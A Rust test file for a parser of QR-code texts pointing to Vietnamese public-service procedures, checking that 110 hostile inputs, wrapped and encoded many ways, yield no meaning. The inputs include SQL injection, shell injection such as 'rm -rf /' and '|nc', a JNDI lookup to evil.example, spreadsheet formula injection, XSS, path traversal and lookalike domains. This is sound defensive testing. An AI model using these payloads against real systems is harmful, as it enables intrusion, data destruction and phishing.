//! Texts that were made to deceive: alone, and in everything that may stand around a good one.

use super::*;

/// Texts that mean nothing, whatever stands around them.
const HOSTILE: [&str; 110] = [
    "javascript:alert('1.001193')",
    "javascript:1.001193",
    "JaVaScRiPt:1.001193",
    "javascript: 1.001193",
    "java\tscript:1.001193",
    "vbscript:1.001193",
    "data:text/html,1.001193",
    "data:1.001193",
    "intent://1.001193",
    "intent:1.001193#Intent;scheme=https;end",
    "file:///etc/passwd?1.001193",
    "view-source:https://dichvucong.gov.vn/x?ma=1.001193",
    "blob:https://dichvucong.gov.vn/1.001193",
    "googlechrome://navigate?url=https://dichvucong.gov.vn/x?ma=1.001193",
    "ftp://dichvucong.gov.vn/1.001193",
    "market://details?id=1.001193",
    "tel:1.001193",
    "sms:1.001193",
    "smsto:1022:1.001193",
    "mailto:a@b.vn?subject=1.001193",
    "geo:1.001193,2.000986",
    "otpauth://totp/1.001193",
    "WIFI:T:WPA;S:1.001193;P:x;;",
    "BEGIN:VCARD\nFN:1.001193\nEND:VCARD",
    "MATMSG:TO:a@b.vn;SUB:1.001193;;",
    "1.001193'; DROP TABLE ticket; --",
    "1.001193 DROP TABLE ticket",
    "1.001193' OR '1'='1",
    "1.001193\" OR \"1\"=\"1",
    "1.001193 OR 1=1",
    "1.001193 UNION SELECT secret FROM pin",
    "1.001193 -- x",
    "1.001193/*x*/",
    "1.001193;ls",
    "1.001193; rm -rf /",
    "1.001193 && reboot",
    "1.001193 || reboot",
    "1.001193 | sh",
    "1.001193|nc",
    "$(reboot) 1.001193",
    "`reboot` 1.001193",
    "${1.001193}",
    "{{1.001193}}",
    "#{1.001193}",
    "${jndi:ldap://evil.example/1.001193}",
    "=HYPERLINK(\"1.001193\")",
    "=HYPERLINK(\"https://dichvucong.gov.vn/x?ma=1.001193\")",
    "=1+1.001193",
    "+1.001193+1",
    "@SUM(1.001193)",
    "=cmd|'/C calc'!A0 1.001193",
    "SLEEP(1.001193)",
    "eval(1.001193)",
    "x = alert(1.001193)",
    "<script>1.001193</script>",
    "<b>1.001193</b>",
    "<img src=x onerror=alert(1.001193)>",
    "onload=1.001193",
    "&lt;script&gt;1.001193",
    "＜script＞1.001193",
    "𝐣𝐚𝐯𝐚𝐬𝐜𝐫𝐢𝐩𝐭:1.001193",
    "../../1.001193",
    "..\\..\\1.001193",
    "\\\\evil\\1.001193",
    "1.00\u{200B}1193",
    "Mã: \u{200B}1.001193",
    "1\u{202E}391100.1 x",
    "x \u{202E}3911001.1 x",
    "x\u{2066}1.001193\u{2069}x",
    "1.001193\u{1b}p",
    "1.001193\u{7}x",
    "1.001193\u{9b}2J",
    "1.001193 \u{1b}@x",
    "x\u{0}1.001193",
    "1.001193\u{E0041}x",
    "x\u{3164}1.001193",
    "https://dichvucong.gov.vn@evil.example/1.001193",
    "https://dichvucong.gov.vn:x@evil.example/1.001193",
    "https://evil.example\\@dichvucong.gov.vn/1.001193",
    "https://dichvucong.gov.vn.evil.example/1.001193",
    "https://evildichvucong.gov.vn/1.001193",
    "https://dichvucong-gov.vn/1.001193",
    "https://dichvucong.gov.vn-x.com/1.001193",
    "https://dichvuc0ng.gov.vn/1.001193",
    "https://dichvucong.com/1.001193",
    "https://dіchvucong.gov.vn/1.001193",
    "https://xn--dchvucong-7zk.gov.vn/1.001193",
    "https://dichvucong。gov。vn/1.001193",
    "dịchvucong.gov.vn/x?ma=1.001193",
    "dichvucong.gov.vn.evil.com/1.001193",
    "user@dichvucong.gov.vn/1.001193",
    "https://dichvucong.gov.vn/x?u=javascript:1.001193",
    "https://dichvucong.gov.vn/x?u=https%3A%2F%2Fevil.example%2F1.001193",
    "https://dichvucong.gov.vn/x?u=%3Cscript%3E1.001193",
    "https://dichvucong.gov.vn/x?ma=1.001193%27%20OR%201",
    "https://dichvucong.gov.vn/x?ma=1.00%E2%80%8B1193",
    "https://dichvucong.gov.vn#@evil.example/1.001193",
    "https://dichvucong.gov.vn%40evil.example/1.001193",
    "https://dichvucong.gov.vn/x?next=//evil.com/1.001193",
    "https://dichvucong.gov.vn/x?next=https:evil.com/1.001193",
    "https://dichvucong.gov.vn/x?next=evil.com/1.001193",
    "https://dichvucong.gov.vn/x?keyword=%3Cscript%3E",
    "https://dichvucong.gov.vn/x?keyword=%E2%80%AEkhai",
    "https://dichvucong.gov.vn/x?keyword=%D0%BAhai",
    "https://dichvucong.gov.vn/x?keyword==HYPERLINK(1)",
    "location=1.001193",
    "document.cookie=1.001193",
    "1.001193 ORDER BY 1",
    "<H36.10-261123-0042>x",
    "javascript:MC1:A4DQOBYHA4DQOBYHA4DQOBYHA4",
];

/// What stands around a text: everything that the grammar takes off.
const ENVELOPES: [(&str, &str); 29] = [
    ("", ""),
    ("]Q1", ""),
    ("]C1", "\r\n"),
    ("\\000026", ""),
    ("]Q2\\000026", "\u{3}"),
    ("\u{2}", "\u{3}"),
    ("\u{1}\u{2}", "\u{3}\u{4}"),
    ("", "\u{1D}"),
    ("\u{FEFF}", "\u{200B}"),
    ("\u{200E}", "\u{AD}"),
    ("Q", ""),
    ("", "Q"),
    ("QR", ""),
    (" \t", "\n"),
    ("Mã TTHC: ", ""),
    ("Đăng ký khai sinh\n", ""),
    ("", "\nĐăng ký khai sinh"),
    ("Đăng ký khai sinh (", ")"),
    ("(", ")"),
    ("[", "]"),
    ("“", "”"),
    ("Khai sinh|", ""),
    ("", "\tKhai sinh"),
    ("Link: ", ""),
    ("URL:", ""),
    ("{\"ma\":\"", "\"}"),
    ("{\"ten\":\"Khai sinh\",\"ma\":\"", "\"}"),
    ("MEBKM:TITLE:Khai sinh;URL:", ";;"),
    ("MEBKM:URL:https\\://dichvucong.gov.vn/;TITLE:", ";;"),
];

/// A core within an envelope, escaped as the envelope wants it.
fn wrapped(core: &str, (before, behind): (&str, &str)) -> String {
    let core = if before.starts_with('{') {
        serde_json::to_string(core).expect("a text").trim_matches('"').to_owned()
    } else if before.starts_with("MEBKM") {
        core.chars().flat_map(|c| if ":;,\\".contains(c) { vec!['\\', c] } else { vec![c] }).collect()
    } else {
        core.to_owned()
    };
    // Where there is an extended channel interpretation, backslashes are doubled.
    let core = if before.contains("\\0000") { core.replace('\\', "\\\\") } else { core };
    format!("{before}{core}{behind}")
}

/// Everything coded, as careless programs do.
fn coded(text: &str) -> String {
    text.bytes().map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

#[test]
fn hostile_texts_mean_nothing() {
    let long = "1.001193 ".repeat(400);
    for text in [
        long.as_str(),
        "javascript:alert('1.001193')",
        "1.001193'; DROP TABLE ticket; --",
        "\u{202E}3911001.1",
        "1.001193\u{1b}p\u{0}",
        "https://dichvucong.gov.vn@evil.example/1.001193",
        "https://dichvucong.gov.vn.evil.example/1.001193",
        "https://evildichvucong.gov.vn/1.001193",
        "intent://1.001193",
        "javascript:1.001193",
        "=HYPERLINK(\"1.001193\")",
        "<script>1.001193</script>",
        "",
    ] {
        assert_eq!(meaning(text), Meaning::Unknown, "{text:?}");
    }
}

#[test]
fn a_hostile_text_means_nothing_in_any_envelope() {
    let wrong: Vec<String> = HOSTILE
        .iter()
        .flat_map(|core| ENVELOPES.map(|envelope| wrapped(core, envelope)).into_iter().chain([coded(core), coded(&coded(core))]))
        .filter(|text| meaning(text) != Meaning::Unknown)
        .map(|text| format!("{text:?} is {:?}", meaning(&text)))
        .collect();
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn bombs_and_endless_texts_mean_nothing() {
    let nested = format!("{}1.001193{}", "{\"a\":".repeat(400), "}".repeat(400));
    let lists = format!("{}1.001193{}", "[".repeat(1_400), "]".repeat(1_400));
    let coded = format!("%{}", "25".repeat(1_200));
    let escapes = "\\000026".repeat(400);
    let words = "Đăng ký khai sinh ".repeat(120) + "1.001193";
    all_mean([nested, lists, coded, escapes, words], &Meaning::Unknown);
    let hosts = ["=", "(", ":", "a=", "=a.b"].map(|part| format!("https://dichvucong.gov.vn/{}", part.repeat(2_900 / part.len())));
    for text in hosts {
        assert!(matches!(meaning(&text), Meaning::Portal | Meaning::Unknown), "and come to an end");
    }
    all_mean(
        [
            "{\"__proto__\":\"1.001193\"}",
            "{\"\":\"1.001193\"}",
            "{\"ma\":\"<b>\",\"ma\":\"1.001193\"}",
            "{\"a\":{\"b\":\"1.001193\"}}",
            "{\"<b>\":\"1.001193\"}",
        ],
        &Meaning::Unknown,
    );
}

/// Good texts and what they mean.
fn good() -> impl Strategy<Value = (String, Meaning)> {
    prop_oneof![
        Just(("1.001193".to_owned(), birth())),
        Just(("Mã TTHC:1.001193".to_owned(), birth())),
        Just(("https://dichvucong.gov.vn/x?ma=1.001193".to_owned(), birth())),
        Just((format!("dichvucong.gov.vn/thu-tuc-hanh-chinh/{ID}"), birth())),
        Just((format!("MC1:{}", token().as_str()), Meaning::Slip(token()))),
        Just(("https://dichvucong.gov.vn/".to_owned(), Meaning::Portal)),
        Just(("https://example.com/a".to_owned(), Meaning::Address)),
        Just(("2.000986".to_owned(), Meaning::NotInCatalogue("2.000986".parse().ok()))),
    ]
}

/// Layers that a reader may add, the outermost first.
fn layers() -> impl Strategy<Value = Vec<(&'static str, &'static str)>> {
    let framing = prop_oneof![
        Just(("", "")),
        Just(("\u{2}", "\u{3}")),
        Just(("", "\r\n")),
        Just(("\u{FEFF}", "")),
        Just(("", "\u{200B}\u{4}")),
        Just((" ", "\t")),
    ];
    let identifier = prop_oneof![Just(("", "")), Just(("]Q1", "")), Just(("]C0", "")), Just(("]e3", ""))];
    let interpretation = prop_oneof![Just(("", "")), Just(("\\000026", "")), Just(("\\000003", ""))];
    let letter = prop_oneof![Just(("", "")), Just(("Q", "")), Just(("", "")), Just(("QR", ""))];
    (framing.clone(), identifier, framing, interpretation, letter).prop_map(|(a, b, c, d, e)| vec![a, b, c, d, e])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3_000))]

    #[test]
    fn a_good_text_keeps_its_meaning_in_any_envelope((text, wanted) in good(), layers in layers()) {
        // The portal's front page without a scheme is not told from another host when letters stand before it.
        let wrapped = layers.iter().rev().fold(text, |inner, (before, behind)| format!("{before}{inner}{behind}"));
        let letters = layers[4].0 == "QR" && wrapped.contains("QRdichvucong");
        prop_assume!(!letters);
        prop_assert_eq!(meaning(&wrapped), wanted, "{:?}", wrapped);
    }

    #[test]
    fn a_hostile_text_means_nothing_in_any_layers(core in proptest::sample::select(HOSTILE.to_vec()), envelope in proptest::sample::select(ENVELOPES.to_vec()), layers in layers()) {
        let inner = wrapped(core, envelope);
        // No reader adds its letters twice.
        prop_assume!(layers[4].0.is_empty() || !envelope.0.starts_with('Q'));
        let escaped = layers[3].0.is_empty() || envelope.0.contains("\\0000");
        let inner = if escaped { inner } else { inner.replace('\\', "\\\\") };
        let wrapped = layers.iter().rev().fold(inner, |inner, (before, behind)| format!("{before}{inner}{behind}"));
        prop_assert_eq!(meaning(&wrapped), Meaning::Unknown, "{:?}", wrapped);
    }

    /// Whatever stands in a text, a procedure is only shown where its code or id stands in it, and never through an address of somebody else.
    #[test]
    fn no_procedure_comes_from_elsewhere(host in "[a-z]{3,8}\\.(com|net|example|gov\\.vn)", tail in "[/?#&=a-z0-9.-]{0,30}") {
        let got = meaning(&format!("https://{host}/{tail}1.001193"));
        prop_assert!(matches!(got, Meaning::Address | Meaning::Unknown), "{:?}", got);
    }
}
